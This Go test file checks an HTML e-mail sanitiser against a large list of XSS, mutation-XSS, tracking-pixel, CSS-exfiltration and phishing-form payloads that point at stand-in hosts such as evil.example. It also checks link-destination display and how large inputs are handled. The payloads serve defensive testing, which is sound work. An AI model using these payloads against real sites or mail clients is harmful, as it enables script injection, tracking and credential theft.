package body

import (
	"fmt"
	"net/url"
	"strings"
	"testing"

	"golang.org/x/net/html"
)

// ownImages knows two images of a mail.
func ownImages(id string) (string, bool) {
	switch id {
	case "logo@mail":
		return "/message/7/part/2", true
	case `odd"id`:
		return `/message/7/part/3?a=1&b="`, true
	}
	return "", false
}

// checkSafe parses a result as a browser does and refuses every node and attribute that is not expected.
func checkSafe(t *testing.T, src, out string) {
	t.Helper()
	doc, err := html.Parse(strings.NewReader(out))
	if err != nil {
		t.Fatalf("%q became %q: %v", src, out, err)
	}
	for n := range doc.Descendants() {
		switch n.Type {
		case html.ElementNode:
			checkElement(t, src, out, n)
		case html.TextNode, html.DoctypeNode:
		default:
			t.Errorf("%q became %q: node of type %d", src, out, n.Type)
		}
	}
	if again := Sanitise(out, ownImages); again != out {
		t.Errorf("not idempotent: %q became\n%q and then\n%q", src, out, again)
	}
	for _, r := range out {
		if isBidi(r) || isControl(r) {
			t.Errorf("%q became %q: %U", src, out, r)
		}
	}
}

func checkElement(t *testing.T, src, out string, n *html.Node) {
	t.Helper()
	if n.Namespace != "" {
		t.Errorf("%q became %q: %s in %s", src, out, n.Data, n.Namespace)
	}
	switch n.Data {
	case "html", "head", "body", "colgroup": // put in by the parser
	case "a", "img", "td", "th":
	default:
		if !isShown(n.Data) {
			t.Errorf("%q became %q: element %s", src, out, n.Data)
		}
	}
	for _, a := range n.Attr {
		if !allowedAttribute(n.Data, a) {
			t.Errorf("%q became %q: attribute %s=%q of %s", src, out, a.Key, a.Val, n.Data)
		}
	}
}

func allowedAttribute(tag string, a html.Attribute) bool {
	switch {
	case tag == "a" && a.Key == "href":
		u, err := url.Parse(a.Val)
		return err == nil && (u.Scheme == "http" || u.Scheme == "https" || u.Scheme == "mailto") && u.User == nil
	case tag == "a" && a.Key == "rel":
		return a.Val == "noopener noreferrer nofollow"
	case tag == "a" && a.Key == "target":
		return a.Val == "_blank"
	case tag == "img" && a.Key == "src":
		return strings.HasPrefix(a.Val, "/message/7/part/")
	case tag == "img" && a.Key == "data-cid":
		_, ok := ownImages(a.Val)
		return ok
	case tag == "img" && a.Key == "alt":
		return !strings.ContainsAny(a.Val, ":/")
	case (tag == "td" || tag == "th") && (a.Key == "colspan" || a.Key == "rowspan"):
		return strings.Trim(a.Val, "0123456789") == ""
	case a.Key == "dir":
		return a.Val == "ltr" || a.Val == "rtl" || a.Val == "auto"
	}
	return false
}

// attacks are ways to run, load, style, name or submit something.
var attacks = []string{
	// script in all its coats
	`<script>alert(1)</script>`, `<SCRIPT SRC=http://evil.example/x.js></SCRIPT>`, `<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`<script>alert(1)`, `<script/xss src=x>`, `<script x>alert(1)</script y>`, `<<script>alert(1);//<</script>`, `<script><!--</script><script>alert(1)--></script>`,
	"<scr\x00ipt>alert(1)</scr\x00ipt>", `<script >alert(1)</script >`, "<script\n>alert(1)</script\n>", `</script><script>alert(1)</script>`,
	`"><script>alert(1)</script>`, `'"--></style></script><script>alert(1)</script>`, `<svg><script>alert(1)</script></svg>`, `<svg><script xlink:href=data:,alert(1) />`,
	// handlers
	`<img src=x onerror=alert(1)>`, `<img src=x OnErRoR=alert(1)>`, `<img/src=x/onerror=alert(1)>`, "<img src=x\tonerror=alert(1)>", `<img src="x" onerror="alert(1)"`,
	`<img """><script>alert(1)</script>">`, `<body onload=alert(1)>text`, `<div onmouseover=alert(1)>text</div>`, `<a onclick=alert(1) href="https://ok.example/">x</a>`,
	`<p/onmouseenter=alert(1)>x`, `<b onfocus=alert(1) autofocus tabindex=1>x</b>`, `<marquee onstart=alert(1)>x</marquee>`, `<details open ontoggle=alert(1)>x</details>`,
	`<video><source onerror=alert(1)></video>`, `<audio src=x onerror=alert(1)>`, `<input onfocus=alert(1) autofocus>`, `<select onfocus=alert(1) autofocus><option>x</select>`,
	`<textarea onfocus=alert(1) autofocus>x</textarea>`, `<keygen onfocus=alert(1) autofocus>`, `<isindex onx=alert(1)>`, `<table onpointerdown=alert(1)><tr><td>x</table>`,
	`<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;1&#41;>`, `<x onclick=alert(1) style=font-size:500px>x`, `<p onanimationstart=alert(1) style="animation-name:x">x`,
	// addresses that run
	`<a href="javascript:alert(1)">x</a>`, `<a href="JaVaScRiPt:alert(1)">x</a>`, "<a href=\"java\tscript:alert(1)\">x</a>", "<a href=\"java\nscript:alert(1)\">x</a>",
	`<a href="java&#x09;script:alert(1)">x</a>`, `<a href="&#106;&#97;vascript:alert(1)">x</a>`, `<a href=" &#14; javascript:alert(1)">x</a>`, "<a href=\"\x01javascript:alert(1)\">x</a>",
	`<a href="vbscript:msgbox(1)">x</a>`, `<a href="data:text/html,<script>alert(1)</script>">x</a>`, `<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>`, `<a href="file:///etc/passwd">x</a>`,
	`<a href="blob:https://evil.example/1">x</a>`, `<a href="ftp://evil.example/">x</a>`, `<a href="javascript&colon;alert(1)">x</a>`, `<a href="//evil.example/x">x</a>`, `<a href="/admin/delete">x</a>`,
	`<a href="https:evil.example">x</a>`, `<a href="https:\\evil.example">x</a>`, `<a href="https://bank.example@evil.example/">bank.example</a>`, `<a href="http://[::1]/">x</a>`,
	`<a href="https://evil.example\@bank.example">x</a>`, "<a href=\"https://ev\u200Bil.example\">x</a>", `<a href="https://%65vil.example/">x</a>`, `<a href="tel:+1900">x</a>`, `<a href="sms:1">x</a>`,
	`<a href="mailto:a@b.example?bcc=x@evil.example&body=hi">x</a>`, `<a href="mailto:a@b.example%0d%0aBcc:x@evil.example">x</a>`, `<a href="javascript://%0aalert(1)">x</a>`, `<a href=javascript:alert(1)>x`,
	`<a href="https://ok.example" target=_top ping=http://evil.example rel=opener download>x</a>`, `<area href=javascript:alert(1)>`, `<map name=x><area href=http://evil.example></map>`,
	// loading
	`<img src="http://evil.example/pixel.gif">`, `<img src="//evil.example/pixel.gif">`, `<img srcset="http://evil.example/1x 1x">`, `<img src=data:image/png;base64,AAAA>`,
	`<img lowsrc=http://evil.example/ dynsrc=http://evil.example/>`, `<image src=http://evil.example/x>`, `<body background=http://evil.example/x>x`, `<table background="http://evil.example/x"><td>x</table>`,
	`<td background="http://evil.example/x">x`, `<link rel=stylesheet href=http://evil.example/x.css>`, `<link rel=prefetch href=http://evil.example/>`, `<link rel=dns-prefetch href=//evil.example>`,
	`<meta http-equiv=refresh content="0;url=http://evil.example/">`, `<base href=http://evil.example/>`, `<iframe src=http://evil.example/></iframe>`, `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
	`<frameset><frame src=http://evil.example/></frameset>`, `<object data=http://evil.example/x.swf></object>`, `<embed src=http://evil.example/x.swf>`, `<applet code=x></applet>`,
	`<video poster=http://evil.example/x src=http://evil.example/y></video>`, `<track src=http://evil.example/x>`, `<input type=image src=http://evil.example/x>`, `<bgsound src=http://evil.example/x>`,
	`<svg><image href=http://evil.example/x /></svg>`, `<svg><use href=http://evil.example/x#y /></svg>`, `<img src="cid:unknown@mail">`, `<img src="cid:logo@mail" srcset=http://evil.example/x onload=alert(1)>`,
	`<img src="CID:logo%40mail">`, `<img data-cid="logo@mail" src=http://evil.example/x>`, `<img data-cid="unknown" src="/message/7/part/2">`, `<img src=cid:odd%22id alt='"><script>alert(1)</script>'>`,
	`<img src=x alt="http://evil.example/">`, `<img src="/logout">`, `<portal src=http://evil.example>`, `<source srcset=http://evil.example>`,
	// style
	`<style>@import url(http://evil.example/x.css);</style>`, `<style>input[value^=a]{background:url(http://evil.example/a)}</style>`, `<div style="background:url(http://evil.example/x)">x</div>`,
	`<div style="position:fixed;top:0;left:0;width:100%;height:100%">x</div>`, `<p style="behavior:url(x.htc)">x`, `<p style="width:expression(alert(1))">x`, `<style><img src=x onerror=alert(1)></style>`,
	`<div style="content:url(http://evil.example/x)">x`, `<font face="x" color=red size=7>x</font>`, `<style type=text/css>@font-face{src:url(http://evil.example)}`, `<b class="btn" id="location" name="parent">x</b>`,
	// forms and clobbering
	`<form action=http://evil.example/><input name=password><button>go</button></form>`, `<form id=document><input name=cookie></form>`, `<button formaction=javascript:alert(1)>x</button>`,
	`<input form=x formaction=http://evil.example>`, `<a id=window name=parent href="https://ok.example">x</a>`, `<img name=body id=forms src=x>`, `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
	// mutation
	`<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`, `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<noembed><img src="</noembed><img src=x onerror=alert(1)>">`, `<xmp><img src="</xmp><img src=x onerror=alert(1)>">`,
	`<listing>&lt;img onerror="alert(1)" src=x&gt;</listing>`, `<textarea><img src=x onerror=alert(1)></textarea>`, `<title><img src="</title><img src=x onerror=alert(1)>">`, `<plaintext><img src=x onerror=alert(1)>`,
	`<template><img src=x onerror=alert(1)></template>`, `<template><template></template><script>alert(1)</script>`, `<svg><foreignObject><p>text<img src=x onerror=alert(1)></foreignObject></svg>`,
	`<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>`, `<svg><title><img src=x onerror=alert(1)></title></svg>`, `<svg><desc><p><style><img src=x onerror=alert(1)>`,
	`<math href="javascript:alert(1)">x</math>`, `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`, `<svg><animate onbegin=alert(1)></svg>`, `<svg onload=alert(1)>`, `<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x`,
	`<svg><style>&lt;img src=x onerror=alert(1)&gt;</style>`, `<table><style><a title="</style><img src=x onerror=alert(1)>">`, `<table><caption><svg><p></table>x`, `<a><table><a href="https://ok.example">x</a></table></a>`,
	`<p><a href="https://ok.example">x<p>y</a>z`, `<b><p></b>x</p>`, `<table><tr><td><table><tr><p>x`, `<ul><li><ul><li>x</ul><p>y<li>z`, `<dl><dt>a<dd>b<p>c<dt>d`, `<p><table><p>x</table>y`, `<h1><h2>x</h1>y`,
	`<a href="https://a.example">1<a href="https://b.example">2<b>3</a>4</b>`, `<td>cell</td><tr>row</tr>`, `<select><option><script>alert(1)</script>`, `<frameset><noframes><img src=x onerror=alert(1)></noframes>`,
	`<!--><img src=x onerror=alert(1)>-->`, `<!--><script>alert(1)</script>`, `<!-- --!><img src=x onerror=alert(1)>`, `<![CDATA[<img src=x onerror=alert(1)>]]>`, `<?xml version="1.0"?><img src=x onerror=alert(1)>`, `<!DOCTYPE x [<!ENTITY y "z">]>&y;`,
	`<!--[if gte IE 4]><script>alert(1)</script><![endif]-->`, `<comment><img src="</comment><img src=x onerror=alert(1)>">`, `<%<img src=x onerror=alert(1)>%>`, `</a onmouseover=alert(1)>x`, `<//script>alert(1)`, `<a/href="https://ok.example"/onclick=alert(1)>x</a>`,
	`<details><summary>x</summary>y</details>`, `<dialog open>x</dialog>`, `<slot onslotchange=alert(1)>x`, `<custom-element onx=1>x</custom-element>`, `<img src=x:x onerror=alert(1)//`, "<img src=\"x`<script>alert(1)</script>\"`>",
	"\u202Egnp.exe", "a\u200Bb\u2066c", "<p>\x00\x1b[2Jx", "&#0;&#1;&#128;&#xD800;&#x202E;&#8203;", "\xff\xfe<script>\xff", "<p dir=rtl>x", "<p dir='\"><script>'>x", `<td colspan="9999999" rowspan="2' onx='">x`,
}

func TestT7_2_AttacksLeaveOnlyAllowedNodes(t *testing.T) {
	if len(attacks) < 120 {
		t.Fatalf("only %d cases", len(attacks))
	}
	for _, src := range attacks {
		checkSafe(t, src, Sanitise(src, ownImages))
		inside := `<table><tr><td><p>before` + src + `after</p></td></tr></table><a href="https://ok.example/">` + src + `</a>`
		checkSafe(t, inside, Sanitise(inside, ownImages))
	}
	all := strings.Join(attacks, "\n")
	checkSafe(t, "all together", Sanitise(all, ownImages))
}

func TestT7_2_PairsOfAttacksLeaveOnlyAllowedNodes(t *testing.T) {
	for i := range attacks {
		a, b := attacks[i], attacks[(i*7+3)%len(attacks)]
		checkSafe(t, a+b, Sanitise(a+b, ownImages))
		half := a[:len(a)/2] + b
		checkSafe(t, half, Sanitise(half, ownImages))
	}
}

func TestT7_2_OrdinaryMailKeepsItsShape(t *testing.T) {
	tests := []struct{ src, want string }{
		{`<p>Hello <b>you</b>,<br>one &lt; two</p>`, `<p>Hello <b>you</b>,<br>one &lt; two</p>`},
		{`<html><head><title>x</title></head><body><div class="a">t</div></body></html>`, `<div>t</div>`},
		{`<ul><li>a<li>b</ul>`, `<ul><li>a</li><li>b</li></ul>`},
		{`<p>a<p>b`, `<p>a</p><p>b</p>`},
		{`<table border=1><tr><td colspan=2 width=10>a<td>b<tr><th>c</table>`, `<table><tr><td colspan="2">a</td><td>b</td></tr><tr><th>c</th></tr></table>`},
		{`<blockquote type=cite>q</blockquote>`, `<blockquote>q</blockquote>`},
		{`<font color=red>a</font><section>b</section>`, `ab`},
		{`a<script>x</script>b`, `ab`},
		{`<p dir=RTL>שלום</p>`, `<p dir="rtl">שלום</p>`},
		{"می\u200cخواهم 👨‍👩‍👧", "می\u200cخواهم 👨‍👩‍👧"},
	}
	for _, tt := range tests {
		got := Sanitise(tt.src, nil)
		if got != tt.want {
			t.Errorf("%q became %q, want %q", tt.src, got, tt.want)
		}
		checkSafe(t, tt.src, got)
	}
}

func TestT7_3_NothingRemoteAndOnlyOwnImages(t *testing.T) {
	tests := []struct{ src, want string }{
		{`<img src="https://evil.example/p.gif" alt="Our logo">`, `[image: Our logo]`},
		{`<img src="https://evil.example/p.gif">`, `[image]`},
		{`<img src="https://evil.example/p.gif" width=1 height=1>`, ``},
		{`<img src="cid:logo@mail" alt="L">`, `<img src="/message/7/part/2" data-cid="logo@mail" alt="L">`},
		{`<img src=cid:odd%22id>`, `<img src="/message/7/part/3?a=1&amp;b=&#34;" data-cid="odd&#34;id" alt="">`},
		{`<img src="cid:other@mail">`, `[image]`},
		{`<img src="data:image/png;base64,AAAA" alt="x">`, `[image: x]`},
		{`<div style="background:url(https://evil.example/x)">t</div>`, `<div>t</div>`},
	}
	for _, tt := range tests {
		got := Sanitise(tt.src, ownImages)
		if got != tt.want {
			t.Errorf("%q became %q, want %q", tt.src, got, tt.want)
		}
		checkSafe(t, tt.src, got)
	}
	for _, src := range attacks {
		doc, err := html.Parse(strings.NewReader(Sanitise(src, ownImages)))
		if err != nil {
			t.Fatal(err)
		}
		for n := range doc.Descendants() {
			for _, a := range n.Attr {
				if n.Data != "a" && strings.Contains(a.Val, "//") {
					t.Errorf("%q leaves %s=%q in %s", src, a.Key, a.Val, n.Data)
				}
			}
		}
	}
}

func TestT7_4_NoStyleSurvives(t *testing.T) {
	for _, src := range attacks {
		out := strings.ToLower(Sanitise(src, ownImages))
		for _, bad := range []string{"<style", " style=", " class=", " id=", " name=", "<link", "<font"} {
			if strings.Contains(out, bad) {
				t.Errorf("%q became %q", src, out)
			}
		}
	}
}

func TestT7_5_LinksShowWhereTheyLead(t *testing.T) {
	const rel = ` rel="noopener noreferrer nofollow" target="_blank">`
	tests := []struct{ src, want string }{
		{`<a href="https://ok.example/login">https://ok.example/login</a>`, `<a href="https://ok.example/login"` + rel + `https://ok.example/login</a>`},
		{`<a href="https://ok.example/login">ok.example</a>`, `<a href="https://ok.example/login"` + rel + `ok.example</a>`},
		{`<a href="https://evil.example/login">ok.example</a>`, `<a href="https://evil.example/login"` + rel + `ok.example [evil.example]</a>`},
		{`<a href="https://evil.example/">https://ok.example/</a>`, `<a href="https://evil.example/"` + rel + `https://ok.example/ [evil.example]</a>`},
		{`<a href="https://evil.example/">ok.example [ok.example]</a>`, `<a href="https://evil.example/"` + rel + `ok.example [ok.example] [evil.example]</a>`},
		{`<a href="https://ok.example@evil.example/">ok.example</a>`, `<a href="https://evil.example/"` + rel + `ok.example [evil.example]</a>`},
		{`<a href="https://evil.example/?u=ok.example">click here</a>`, `<a href="https://evil.example/?u=ok.example"` + rel + `click here [evil.example]</a>`},
		{`<a href="https://okpаy.example/">okpay.example</a>`, `<a href="https://xn--okpy-73d.example/"` + rel + `okpay.example [xn--okpy-73d.example]</a>`},
		{"<a href=\"https://ok.example/\">\u202Eelpmaxe.ko</a>", `<a href="https://ok.example/"` + rel + `elpmaxe.ko [ok.example]</a>`},
		{`<a href="HTTPS://OK.Example:8443/A?b=c&d=e#f">x</a>`, `<a href="https://ok.example:8443/A?b=c&amp;d=e#f"` + rel + `x [ok.example]</a>`},
		{`<a href="mailto:help@ok.example?subject=x">help@ok.example</a>`, `<a href="mailto:help@ok.example"` + rel + `help@ok.example</a>`},
		{`<a href="mailto:help@evil.example">help@ok.example</a>`, `<a href="mailto:help@evil.example"` + rel + `help@ok.example [help@evil.example]</a>`},
		{`<a href="javascript:alert(1)">click</a>`, `click`},
		{`<a href="/relative">click</a>`, `click`},
		{`<a name=x>anchor</a>`, `anchor`},
		{`<a href="https://evil.example/"><img src="https://evil.example/b.png" alt="Sign in"></a>`, `<a href="https://evil.example/"` + rel + `[image: Sign in] [evil.example]</a>`},
		{`<a href="https://evil.example/"></a>`, `<a href="https://evil.example/"` + rel + ` [evil.example]</a>`},
		{`<a href="https://b&uuml;cher.example/">bücher.example</a>`, `<a href="https://xn--bcher-kva.example/"` + rel + `bücher.example</a>`},
	}
	for _, tt := range tests {
		got := Sanitise(tt.src, nil)
		if got != tt.want {
			t.Errorf("%q became\n%q, want\n%q", tt.src, got, tt.want)
		}
		checkSafe(t, tt.src, got)
	}
}

func TestT7_6_HiddenTextIsNotShown(t *testing.T) {
	for _, src := range hiddenCases {
		out := Sanitise(src, nil)
		if strings.Contains(out, "SECRET") || !strings.Contains(out, "seen") {
			t.Errorf("%q became %q", src, out)
		}
		checkSafe(t, src, out)
	}
}

func TestDeepAndLargeDocumentsAreBounded(t *testing.T) {
	for name, src := range hugeDocuments() {
		out := Sanitise(src, nil)
		if depth := strings.Count(out, "<div>"); name == "deep" && depth > maxShownDepth {
			t.Errorf("%s: %d levels", name, depth)
		}
		if again := Sanitise(out, nil); again != out {
			t.Errorf("%s is not idempotent: %d bytes became %d", name, len(out), len(again))
		}
	}
}

// hugeDocuments would cost minutes or the stack if anything grew faster than the document.
func hugeDocuments() map[string]string {
	var fonts strings.Builder
	fonts.WriteString("<p>")
	for i := range 500 {
		fmt.Fprintf(&fonts, "<font color=#%06x>", i)
	}
	return map[string]string{
		"deep":           strings.Repeat("<div>", 100_000) + "text",
		"deep and ends":  strings.Repeat("<div>", 50_000) + "text" + strings.Repeat("</div>", 50_000),
		"mixed":          strings.Repeat("<b><i>", 50_000) + strings.Repeat("</b>", 50_000),
		"unmatched ends": strings.Repeat("<b>", 5_000) + strings.Repeat("</i></p></div></table>", 50_000),
		"formatting":     fonts.String() + strings.Repeat("</p><p>x", 50_000),
		"links":          strings.Repeat(`<a href="https://a.example/">x`, 20_000),
		"tables":         strings.Repeat("<table><tr><td>", 30_000),
		"cells":          "<table><tr>" + strings.Repeat("<td><p>x", 50_000),
		"quotes":         strings.Repeat("<blockquote>x", 50_000),
		"lists":          strings.Repeat("<ul><li>x", 50_000),
		"attributes":     "<p " + strings.Repeat("a=b ", 200_000) + ">x",
		"classes":        `<style>.a{color:red}</style><p class="` + strings.Repeat("a ", 200_000) + `">x`,
		"styled":         "<style>p{display:block;color:#111;font-size:12px}</style>" + strings.Repeat("<p>x", 100_000),
		"styles":         strings.Repeat("<style>.a{color:red}</style>", 20_000) + "x",
		"css":            "<style>" + strings.Repeat("a{", 200_000) + "</style>x",
		"media":          "<style>" + strings.Repeat("@media{", 100_000) + "</style>x",
		"entities":       strings.Repeat("&amp;&lt;&#34;", 100_000),
		"escapes":        strings.Repeat(`"`, 700_000),
		"signatures":     strings.Repeat(`<div class=gmail_signature>x</div>`, 20_000),
		"quoting":        strings.Repeat(`<div class=yahoo_quoted>x`, 20_000),
		"zero width":     strings.Repeat("a\u200B", 200_000),
		"comment":        "<!--" + strings.Repeat("-", 500_000),
		"angle":          strings.Repeat("<", 500_000),
		"svg":            strings.Repeat("<svg>", 20_000) + strings.Repeat("<p>", 20_000),
	}
}

func FuzzSanitise(f *testing.F) {
	for _, s := range attacks {
		f.Add(s)
	}
	for _, s := range hiddenCases {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, src string) {
		checkSafe(t, src, Sanitise(src, ownImages))
	})
}
